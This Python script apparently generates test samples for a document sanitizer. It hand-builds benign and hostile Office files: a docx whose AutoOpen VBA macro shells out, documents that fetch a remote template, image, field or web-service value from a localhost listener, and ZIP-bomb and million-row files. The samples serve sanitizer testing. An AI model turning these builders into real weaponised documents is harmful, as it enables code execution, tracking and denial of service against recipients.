#!/usr/bin/env python3
"""Writes the Office and OpenDocument samples of `plugwarden sanitize`.

Run from anywhere: `python3 samples/office/make_office.py`. The OOXML
(docx, xlsx, pptx), OpenDocument (odt, ods, odp, odg) and RTF files are
built by hand below with the Python 3 standard library only (zipfile, no
pip), deterministically (fixed ZIP dates, no clock, no randomness), so the
committed files can be regenerated and compared byte for byte and a reader
can see exactly what each hostile sample holds. samples/office/README.md
lists them with the verdict sanitize must give. The two that take LibreOffice
minutes (a ZIP bomb, a million rows) go to tests/data/office/, out of the
way of the README's main job, which walks samples/.

The three legacy binary formats (doc, xls, ppt) are LibreOffice's own
conversions of benign.docx, benign.xlsx and benign.pptx: with
`--legacy`, the script runs `soffice --convert-to` (Debian:
libreoffice-writer-nogui, -calc-nogui, -impress-nogui) on them. Without it
the committed .doc/.xls/.ppt are left as they are.

Every visible text uses the words of WORDS, so a test can OCR an output
and find them.
"""

import io
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
# What the OCR test looks for in every benign document's output.
TITLE = "Quarterly harvest report"
BODY = [
    "The orchard produced seven hundred crates of apples this autumn.",
    "Pears ripened late after the cold spring, and the plums were sweet.",
    "Next year the cooperative plans to plant walnut trees along the river.",
]
# Where the hostile samples try to fetch from. The sandbox has no network:
# tests listen here and check that nothing connects.
REMOTE = "http://127.0.0.1:47913"
DATE = (1980, 1, 1, 0, 0, 0)


def write(name, data):
    path = os.path.join(HERE, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    print(f"{name:40} {len(data):9} bytes")


def zip_bytes(entries, comment=b"", level=9):
    """entries: (name, bytes or str, stored?) in order; fixed dates."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data, stored in entries:
            info = zipfile.ZipInfo(name, date_time=DATE)
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            if isinstance(data, str):
                data = data.encode("utf-8")
            z.writestr(info, data, compresslevel=None if stored else level)
        z.comment = comment
    return buf.getvalue()


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

# ---------------------------------------------------------------- OOXML parts

NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_OFFICE_DOC = NS_REL + "/officeDocument"


def content_types(overrides, defaults=()):
    parts = [
        XML_HEAD,
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">',
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
    ]
    for ext, kind in defaults:
        parts.append(f'<Default Extension="{ext}" ContentType="{kind}"/>')
    for name, kind in overrides:
        parts.append(f'<Override PartName="{name}" ContentType="{kind}"/>')
    parts.append("</Types>")
    return "".join(parts)


def relationships(rels):
    """rels: (id, type, target, external?)"""
    parts = [XML_HEAD, f'<Relationships xmlns="{NS_PKG_REL}">']
    for rid, kind, target, external in rels:
        mode = ' TargetMode="External"' if external else ""
        parts.append(f'<Relationship Id="{rid}" Type="{kind}" Target="{xml_escape(target)}"{mode}/>')
    parts.append("</Relationships>")
    return "".join(parts)


# ---------------------------------------------------------------- docx

W_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W_NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{NS_REL}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)


def w_par(text, size_pt=14, bold=False):
    rpr = f'<w:rPr><w:rFonts w:ascii="DejaVu Sans" w:hAnsi="DejaVu Sans"/>{"<w:b/>" if bold else ""}<w:sz w:val="{size_pt * 2}"/></w:rPr>'
    return f'<w:p><w:pPr><w:spacing w:after="240"/></w:pPr><w:r>{rpr}<w:t xml:space="preserve">{xml_escape(text)}</w:t></w:r></w:p>'


def w_page_break():
    return '<w:p><w:r><w:br w:type="page"/></w:r></w:p>'


def w_document(body_xml):
    return (
        XML_HEAD
        + f"<w:document {W_NS}><w:body>{body_xml}"
        + '<w:sectPr><w:pgSz w:w="12240" w:h="15840"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" w:header="720" w:footer="720" w:gutter="0"/></w:sectPr>'
        + "</w:body></w:document>"
    )


def benign_body():
    return w_par(TITLE, 28, bold=True) + "".join(w_par(s) for s in BODY)


def docx(body_xml, parts=(), overrides=(), defaults=(), doc_rels=(), settings=None, settings_rels=()):
    """A docx: the main document, plus extra parts and relationships."""
    overrides = [("/word/document.xml", W_MAIN)] + list(overrides)
    entries = []
    if settings is not None:
        overrides.append(("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"))
        doc_rels = list(doc_rels) + [("rIdSettings", NS_REL + "/settings", "settings.xml", False)]
    entries.append(("[Content_Types].xml", content_types(overrides, defaults), False))
    entries.append(("_rels/.rels", relationships([("rId1", REL_OFFICE_DOC, "word/document.xml", False)]), False))
    entries.append(("word/document.xml", w_document(body_xml), False))
    if doc_rels:
        entries.append(("word/_rels/document.xml.rels", relationships(doc_rels), False))
    if settings is not None:
        entries.append(("word/settings.xml", settings, False))
        if settings_rels:
            entries.append(("word/_rels/settings.xml.rels", relationships(settings_rels), False))
    entries.extend(parts)
    return zip_bytes(entries)


def benign_docx():
    # Two pages: the title and the body, then a page of its own.
    body = benign_body() + w_page_break() + w_par("Page two lists the apple varieties: Cox, Bramley, Gala.")
    return docx(body)


def bench_docx(pages):
    """`pages` letter pages of text, one page break each, for the bench."""
    filler = (
        "Every row of the orchard was counted twice, once by the pickers and once by "
        "the cooperative, and the two tallies agreed within a crate. "
    )
    body = []
    for n in range(1, pages + 1):
        body.append(w_par(f"{TITLE}: page {n} of {pages}", 20, bold=True))
        body.extend(w_par(filler * 3, 11) for _ in range(5))
        if n < pages:
            body.append(w_page_break())
    return docx("".join(body))


# ---------------------------------------------------------------- CFB (OLE2)


def cfb(streams):
    """A compound file (version 3, 512-byte sectors) holding `streams`:
    {"path/inside": bytes}; storages are made from the paths. Streams
    under 4096 bytes go to the mini stream, as the format requires.
    Siblings are chained in the format's name order (a degenerate but valid
    search tree, every node black)."""
    SECTOR, MINI, CUTOFF = 512, 64, 4096
    FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD

    # Directory: entry 0 is the root; storages and streams below.
    entries = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index = {"": 0}
    for path in sorted(streams):
        parts = path.split("/")
        for depth in range(1, len(parts) + 1):
            key = "/".join(parts[:depth])
            if key in index:
                continue
            parent = index["/".join(parts[: depth - 1])]
            is_stream = depth == len(parts)
            entries.append({"name": parts[depth - 1], "type": 2 if is_stream else 1, "children": [],
                            "data": streams[path] if is_stream else b""})
            index[key] = len(entries) - 1
            entries[parent]["children"].append(len(entries) - 1)

    def order(i):
        name = entries[i]["name"]
        return (len(name), name.upper())

    # Mini stream for the small streams, regular sectors for the rest.
    mini_stream, mini_fat = bytearray(), []
    big = []
    for e in entries[1:]:
        if e["type"] != 2:
            continue
        data = e["data"]
        if len(data) < CUTOFF:
            e["start"] = len(mini_stream) // MINI
            count = max(1, -(-len(data) // MINI)) if data else 0
            for k in range(count):
                mini_fat.append(e["start"] + k + 1 if k + 1 < count else END)
            mini_stream += data + b"\0" * (count * MINI - len(data))
            if not data:
                e["start"] = END
        else:
            big.append(e)

    sectors = []  # (payload, chain list) in file order
    fat = []

    def place(data):
        n = max(1, -(-len(data) // SECTOR))
        start = len(fat)
        for k in range(n):
            fat.append(start + k + 1 if k + 1 < n else END)
        sectors.append(data + b"\0" * (n * SECTOR - len(data)))
        return start

    # Reserve the FAT sectors first: count them with a margin.
    dir_bytes_len = -(-len(entries) // 4) * SECTOR
    estimate = 1 + (dir_bytes_len + len(mini_fat) * 4 + len(mini_stream) + sum(len(e["data"]) + SECTOR for e in big)) // SECTOR + 4
    fat_sectors = -(-estimate // (SECTOR // 4 - 1)) or 1
    for _ in range(fat_sectors):
        fat.append(FATSECT)
    sectors.append(None)  # FAT sectors, filled below
    for e in big:
        e["start"] = place(e["data"])
    root_start = place(bytes(mini_stream)) if mini_stream else END
    entries[0]["data"] = bytes(mini_stream)
    entries[0]["start"] = root_start
    mini_fat_start = place(b"".join(struct.pack("<I", v) for v in mini_fat)) if mini_fat else END
    mini_fat_count = -(-len(mini_fat) * 4 // SECTOR) if mini_fat else 0

    # Each storage's children: the first is its child, the rest hang off
    # their predecessor's right link, in the format's name order.
    for e in entries:
        kids = sorted(e["children"], key=order)
        e["child"] = kids[0] if kids else FREE
        for a, b in zip(kids, kids[1:]):
            entries[a]["right"] = b

    def dir_entry(e):
        name = e["name"].encode("utf-16-le") + b"\0\0"
        start, size = e.get("start", END), len(e["data"])
        if e["type"] == 1:
            start, size = 0, 0
        return (name.ljust(64, b"\0") + struct.pack("<HBB", len(name), e["type"], 1)
                + struct.pack("<III", FREE, e.get("right", FREE), e["child"]) + b"\0" * 36
                + struct.pack("<IQ", start, size))

    unused = b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", FREE, FREE, FREE) + b"\0" * 52
    directory = b"".join(dir_entry(e) for e in entries) + unused * ((-len(entries)) % 4)
    dir_start = place(directory)

    assert len(fat) <= fat_sectors * (SECTOR // 4), "FAT estimate too small"
    fat_bytes = b"".join(struct.pack("<I", v) for v in fat)
    fat_bytes += struct.pack("<I", FREE) * (fat_sectors * SECTOR // 4 - len(fat))
    sectors[0] = fat_bytes

    difat = [k for k in range(fat_sectors)] + [FREE] * (109 - fat_sectors)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, dir_start, 0, CUTOFF, mini_fat_start, mini_fat_count, END, 0)
              + b"".join(struct.pack("<I", v) for v in difat))
    assert len(header) == 512
    return header + b"".join(sectors)


def ole10native(label, payload):
    """The packager's stream: what Office shows as an embedded file."""
    body = (struct.pack("<H", 2) + label.encode() + b"\0" + b"C:\\Users\\Public\\" + label.encode() + b"\0"
            + struct.pack("<HH", 0, 3) + struct.pack("<I", len(label) + 9) + b"C:\\Temp\\" + label.encode() + b"\0"
            + struct.pack("<I", len(payload)) + payload)
    return struct.pack("<I", len(body)) + body


def ovba_compress(data):
    """MS-OVBA compression with every chunk stored raw (flag bit clear):
    valid, just not smaller. Chunks are 4096 bytes."""
    out = bytearray(b"\x01")
    for at in range(0, len(data), 4096):
        chunk = data[at:at + 4096].ljust(4096, b" ")
        header = (4096 + 2 - 3) | (0b011 << 12)  # size - 3, signature 3, raw
        out += struct.pack("<H", header) + chunk
    return bytes(out)


def vba_project(module_source):
    """A vbaProject.bin: the VBA storage with a ThisDocument module whose
    source is `module_source` (an AutoOpen macro), its dir stream and the
    PROJECT stream, as Word writes them (MS-OVBA), trimmed to what names
    the module."""
    name = b"ThisDocument"

    def rec(rid, data):
        return struct.pack("<HI", rid, len(data)) + data

    information = (
        rec(0x01, struct.pack("<I", 1))  # SYSKIND win32
        + rec(0x02, struct.pack("<I", 0x409))  # LCID
        + rec(0x14, struct.pack("<I", 0x409))  # LCIDINVOKE
        + rec(0x03, struct.pack("<H", 1252))  # CODEPAGE
        + rec(0x04, b"Project")
        + rec(0x05, b"") + rec(0x40, b"")  # DOCSTRING and its unicode twin
        + rec(0x06, b"") + rec(0x3D, b"")  # HELPFILE
        + rec(0x07, struct.pack("<I", 0))  # HELPCONTEXT
        + rec(0x08, struct.pack("<I", 0))  # LIBFLAGS
        + struct.pack("<HIIH", 0x09, 4, 1, 0)  # VERSION (reserved size 4, major, minor)
        + rec(0x0C, b"") + rec(0x3C, b"")  # CONSTANTS
    )
    modules = (
        rec(0x0F, struct.pack("<H", 1))  # module count
        + rec(0x13, struct.pack("<H", 0xFFFF))  # cookie
        + rec(0x19, name) + rec(0x47, name.decode().encode("utf-16-le"))
        + rec(0x1A, name) + rec(0x32, name.decode().encode("utf-16-le"))
        + rec(0x1C, b"") + rec(0x48, b"")  # docstring
        + rec(0x31, struct.pack("<I", 0))  # text offset: source at 0
        + rec(0x1E, struct.pack("<I", 0))  # help context
        + rec(0x2C, struct.pack("<H", 0xFFFF))  # cookie
        + rec(0x22, b"")  # document module
        + struct.pack("<HI", 0x2B, 0)  # module terminator
    )
    dir_stream = information + modules + struct.pack("<HI", 0x10, 0)
    project = (
        'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'
        'Name="Project"\r\nHelpContextID="0"\r\nVersionCompatible32="393222000"\r\n'
    ).encode()
    return cfb({
        "VBA/dir": ovba_compress(dir_stream),
        "VBA/ThisDocument": ovba_compress(module_source.encode("latin-1")),
        "VBA/_VBA_PROJECT": struct.pack("<HHBH", 0x61CC, 0xFFFF, 0, 0),
        "PROJECT": project,
    })


# ---------------------------------------------------------------- hostile docx


def hostile_macro_docx():
    """A docx carrying a VBA project whose AutoOpen and Document_Open would
    shell out and rewrite the document. LibreOffice runs under settings
    that never execute macros, in a sandbox without processes to start."""
    source = (
        'Attribute VB_Name = "ThisDocument"\r\n'
        "Sub AutoOpen()\r\n"
        '    Shell "sh -c ""touch /tmp/pw-macro-ran"""\r\n'
        '    ActiveDocument.Content.Text = "MACRO RAN"\r\n'
        "End Sub\r\n"
        "Sub Document_Open()\r\n"
        "    AutoOpen\r\n"
        "End Sub\r\n"
    )
    return docx(
        benign_body(),
        parts=[("word/vbaProject.bin", vba_project(source), False)],
        defaults=[("bin", "application/vnd.ms-office.vbaProject")],
        doc_rels=[("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)],
    )


def hostile_remote_template_docx():
    """settings.xml attaches a template on a web server, and the body
    links (not embeds) a picture there and includes another through a
    field: three ways a document phones home when opened."""
    settings = (
        XML_HEAD + f'<w:settings {W_NS}><w:attachedTemplate r:id="rIdTemplate"/>'
        '<w:linkStyles/></w:settings>'
    )
    picture = (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="beacon"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="beacon.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rIdBeacon"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr>'
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    field = (
        f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{REMOTE}/field.png&quot; \\d "><w:r><w:t>picture</w:t></w:r></w:fldSimple></w:p>'
    )
    return docx(
        benign_body() + picture + field,
        settings=settings,
        settings_rels=[("rIdTemplate", NS_REL + "/attachedTemplate", f"{REMOTE}/template.dotm", True)],
        doc_rels=[("rIdBeacon", NS_REL + "/image", f"{REMOTE}/beacon.png", True)],
    )


def hostile_zip_bomb_docx(paragraphs):
    """A docx whose document.xml inflates to `paragraphs` one-letter
    paragraphs (34 bytes each, about 300:1 deflated): a 300 MB document
    in under 1 MB, which LibreOffice builds in memory at about 100 MB a
    second. The ZIP says how big it is, and nobody should believe it
    either way."""
    head = XML_HEAD + f"<w:document {W_NS}><w:body>" + w_par(TITLE, 28, bold=True)
    tail = "</w:body></w:document>"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100000
    deflated = bytearray(compressor.compress(head.encode()))
    for _ in range(paragraphs // 100000):
        deflated += compressor.compress(chunk)
    deflated += compressor.compress(tail.encode()) + compressor.flush()
    crc = zlib.crc32(head.encode())
    for _ in range(paragraphs // 100000):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail.encode(), crc) & 0xFFFFFFFF
    size = len(head) + len(chunk) * (paragraphs // 100000) + len(tail)
    # The other parts come from the ordinary writer; the bomb is spliced in.
    base = docx("")
    return splice_entry(base, "word/document.xml", bytes(deflated), crc, size)


def splice_entry(archive, name, deflated, crc, size):
    """`archive` with entry `name` replaced by raw deflate data."""
    src = zipfile.ZipFile(io.BytesIO(archive))
    out = bytearray()
    central = bytearray()
    for info in src.infolist():
        raw = archive[info.header_offset:]
        n, m = struct.unpack("<HH", raw[26:30])
        data = raw[30 + n + m:30 + n + m + info.compress_size]
        c, usize, method = info.CRC, info.file_size, info.compress_type
        if info.filename == name:
            data, c, usize, method = deflated, crc, size, zipfile.ZIP_DEFLATED
        fname = info.filename.encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, c, len(data), usize, len(fname), 0) + fname + data
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, c, len(data), usize,
                               len(fname), 0, 0, 0, 0, 0o644 << 16, offset) + fname
    count = len(src.infolist())
    return bytes(out + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0))


# ---------------------------------------------------------------- xlsx

X_NS = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{NS_REL}"'
X_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def x_cell(value):
    if isinstance(value, str) and value.startswith("="):
        return f"<c><f>{xml_escape(value[1:])}</f></c>"
    if isinstance(value, tuple):  # (formula, cached value)
        return f"<c><f>{xml_escape(value[0][1:])}</f><v>{value[1]}</v></c>"
    if isinstance(value, str):
        return f'<c t="inlineStr"><is><t>{xml_escape(value)}</t></is></c>'
    return f"<c><v>{value}</v></c>"


def xlsx(rows_xml, parts=(), overrides=(), wb_rels=(), wb_extra="", cols='<cols><col min="1" max="1" width="48" customWidth="1"/><col min="2" max="2" width="14" customWidth="1"/></cols>'):
    sheet = XML_HEAD + f"<worksheet {X_NS}>{cols}<sheetData>{rows_xml}</sheetData></worksheet>"
    workbook = XML_HEAD + f'<workbook {X_NS}><sheets><sheet name="Harvest" sheetId="1" r:id="rId1"/></sheets>{wb_extra}</workbook>'
    rels = [("rId1", NS_REL + "/worksheet", "worksheets/sheet1.xml", False)] + list(wb_rels)
    overrides = [
        ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        ("/xl/worksheets/sheet1.xml", X_SHEET),
    ] + list(overrides)
    entries = [
        ("[Content_Types].xml", content_types(overrides), False),
        ("_rels/.rels", relationships([("rId1", REL_OFFICE_DOC, "xl/workbook.xml", False)]), False),
        ("xl/workbook.xml", workbook, False),
        ("xl/_rels/workbook.xml.rels", relationships(rels), False),
        ("xl/worksheets/sheet1.xml", sheet, False),
    ] + list(parts)
    return zip_bytes(entries)


def x_rows(rows):
    return "".join("<row>" + "".join(x_cell(v) for v in row) + "</row>" for row in rows)


HARVEST = [("Apples", 700), ("Pears", 240), ("Plums", 180), ("Walnuts", 60)]


def benign_xlsx():
    rows = [[TITLE], ["Fruit", "Crates"]] + [list(r) for r in HARVEST] + [["Total", ("=SUM(B3:B6)", 1180)]]
    return xlsx(x_rows(rows))


def hostile_external_link_xlsx():
    """A cell that reads another workbook on a web server (an external
    link part and its relationship), and one that calls WEBSERVICE on it:
    opening must fetch neither; the cached values are what shows."""
    link = (
        XML_HEAD + f'<externalLink {X_NS}><externalBook r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames>'
        '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>"
    )
    rows = [[TITLE], ["Fruit", "Crates"]] + [list(r) for r in HARVEST] + [
        ["Price from the remote workbook", ("=[1]Prices!$A$1", 42)],
        ["Web service", (f'=WEBSERVICE("{REMOTE}/price")', 0)],
    ]
    return xlsx(
        x_rows(rows),
        parts=[
            ("xl/externalLinks/externalLink1.xml", link, False),
            ("xl/externalLinks/_rels/externalLink1.xml.rels",
             relationships([("rId1", NS_REL + "/externalLinkPath", f"{REMOTE}/prices.xlsx", True)]), False),
        ],
        overrides=[("/xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")],
        wb_rels=[("rId2", NS_REL + "/externalLink", "externalLinks/externalLink1.xml", False)],
        wb_extra='<externalReferences><externalReference r:id="rId2"/></externalReferences>',
    )


def hostile_million_rows_xlsx(rows):
    """`rows` rows of one number (rows without their optional `r`, so
    every row is the same bytes and the file stays small): thousands of
    pages once laid out."""
    row = b"<row><c><v>7</v></c></row>"
    head = (XML_HEAD + f"<worksheet {X_NS}><sheetData>").encode()
    tail = b"</sheetData></worksheet>"
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = row * 10000
    deflated = bytearray(compressor.compress(head))
    crc = zlib.crc32(head)
    for _ in range(rows // 10000):
        deflated += compressor.compress(block)
        crc = zlib.crc32(block, crc)
    deflated += compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(tail, crc) & 0xFFFFFFFF
    size = len(head) + len(block) * (rows // 10000) + len(tail)
    return splice_entry(xlsx(""), "xl/worksheets/sheet1.xml", bytes(deflated), crc, size)


# ---------------------------------------------------------------- pptx

P_NS = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{NS_REL}" '
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
)
EMU = 12700  # per point


def p_textbox(shape_id, x, y, w, h, text, size_pt):
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="{shape_id}" name="Text {shape_id}"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
        f'<p:spPr><a:xfrm><a:off x="{x * EMU}" y="{y * EMU}"/><a:ext cx="{w * EMU}" cy="{h * EMU}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
        f'<p:txBody><a:bodyPr wrap="square"/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US" sz="{size_pt * 100}"><a:latin typeface="DejaVu Sans"/></a:rPr>'
        f"<a:t>{xml_escape(text)}</a:t></a:r></a:p></p:txBody></p:sp>"
    )


def p_slide(shapes_xml):
    return (
        XML_HEAD + f"<p:sld {P_NS}><p:cSld><p:spTree>"
        '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
        f"{shapes_xml}</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"
    )


THEME = (
    XML_HEAD + '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Plain"><a:themeElements>'
    '<a:clrScheme name="Plain"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1>'
    '<a:dk2><a:srgbClr val="1F497D"/></a:dk2><a:lt2><a:srgbClr val="EEECE1"/></a:lt2><a:accent1><a:srgbClr val="4F81BD"/></a:accent1>'
    '<a:accent2><a:srgbClr val="C0504D"/></a:accent2><a:accent3><a:srgbClr val="9BBB59"/></a:accent3><a:accent4><a:srgbClr val="8064A2"/></a:accent4>'
    '<a:accent5><a:srgbClr val="4BACC6"/></a:accent5><a:accent6><a:srgbClr val="F79646"/></a:accent6><a:hlink><a:srgbClr val="0000FF"/></a:hlink>'
    '<a:folHlink><a:srgbClr val="800080"/></a:folHlink></a:clrScheme>'
    '<a:fontScheme name="Plain"><a:majorFont><a:latin typeface="DejaVu Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont>'
    '<a:minorFont><a:latin typeface="DejaVu Sans"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme>'
    '<a:fmtScheme name="Plain"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst>'
    '<a:lnStyleLst><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="9525"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst>'
    '<a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst>'
    '<a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst>'
    "</a:fmtScheme></a:themeElements></a:theme>"
)


def pptx(slides, extra_parts=(), defaults=(), slide_rels=None):
    """slides: slide XML strings; slide_rels: extra rels per slide index."""
    slide_rels = slide_rels or {}
    P = "application/vnd.openxmlformats-officedocument.presentationml"
    overrides = [
        ("/ppt/presentation.xml", P + ".presentation.main+xml"),
        ("/ppt/slideMasters/slideMaster1.xml", P + ".slideMaster+xml"),
        ("/ppt/slideLayouts/slideLayout1.xml", P + ".slideLayout+xml"),
        ("/ppt/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml"),
    ] + [(f"/ppt/slides/slide{i + 1}.xml", P + ".slide+xml") for i in range(len(slides))]
    sld_ids = "".join(f'<p:sldId id="{256 + i}" r:id="rIdS{i + 1}"/>' for i in range(len(slides)))
    presentation = (
        XML_HEAD + f'<p:presentation {P_NS}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rIdM"/></p:sldMasterIdLst>'
        f'<p:sldIdLst>{sld_ids}</p:sldIdLst><p:sldSz cx="{720 * EMU}" cy="{540 * EMU}"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>'
    )
    pres_rels = [("rIdM", NS_REL + "/slideMaster", "slideMasters/slideMaster1.xml", False),
                 ("rIdT", NS_REL + "/theme", "theme/theme1.xml", False)]
    pres_rels += [(f"rIdS{i + 1}", NS_REL + "/slide", f"slides/slide{i + 1}.xml", False) for i in range(len(slides))]
    empty_tree = '<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld>'
    master = (
        XML_HEAD + f"<p:sldMaster {P_NS}>{empty_tree}"
        '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>'
        '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rIdL"/></p:sldLayoutIdLst></p:sldMaster>'
    )
    layout = XML_HEAD + f'<p:sldLayout {P_NS} type="blank">{empty_tree}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>'
    entries = [
        ("[Content_Types].xml", content_types(overrides, defaults), False),
        ("_rels/.rels", relationships([("rId1", REL_OFFICE_DOC, "ppt/presentation.xml", False)]), False),
        ("ppt/presentation.xml", presentation, False),
        ("ppt/_rels/presentation.xml.rels", relationships(pres_rels), False),
        ("ppt/slideMasters/slideMaster1.xml", master, False),
        ("ppt/slideMasters/_rels/slideMaster1.xml.rels", relationships([
            ("rIdL", NS_REL + "/slideLayout", "../slideLayouts/slideLayout1.xml", False),
            ("rIdT", NS_REL + "/theme", "../theme/theme1.xml", False)]), False),
        ("ppt/slideLayouts/slideLayout1.xml", layout, False),
        ("ppt/slideLayouts/_rels/slideLayout1.xml.rels", relationships([
            ("rIdM", NS_REL + "/slideMaster", "../slideMasters/slideMaster1.xml", False)]), False),
        ("ppt/theme/theme1.xml", THEME, False),
    ]
    for i, slide in enumerate(slides):
        rels = [("rIdL", NS_REL + "/slideLayout", "../slideLayouts/slideLayout1.xml", False)] + list(slide_rels.get(i, []))
        entries.append((f"ppt/slides/slide{i + 1}.xml", slide, False))
        entries.append((f"ppt/slides/_rels/slide{i + 1}.xml.rels", relationships(rels), False))
    entries.extend(extra_parts)
    return zip_bytes(entries)


def benign_slides():
    return [
        p_slide(p_textbox(2, 40, 60, 640, 80, TITLE, 36) + p_textbox(3, 40, 200, 640, 200, BODY[0], 24)),
        p_slide(p_textbox(2, 40, 60, 640, 200, BODY[1], 24) + p_textbox(3, 40, 300, 640, 200, BODY[2], 24)),
    ]


def benign_pptx():
    return pptx(benign_slides())


def png_image(width, height, pixel):
    rows = bytearray()
    for y in range(height):
        rows.append(0)
        for x in range(width):
            rows += bytes(pixel(x, y))
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
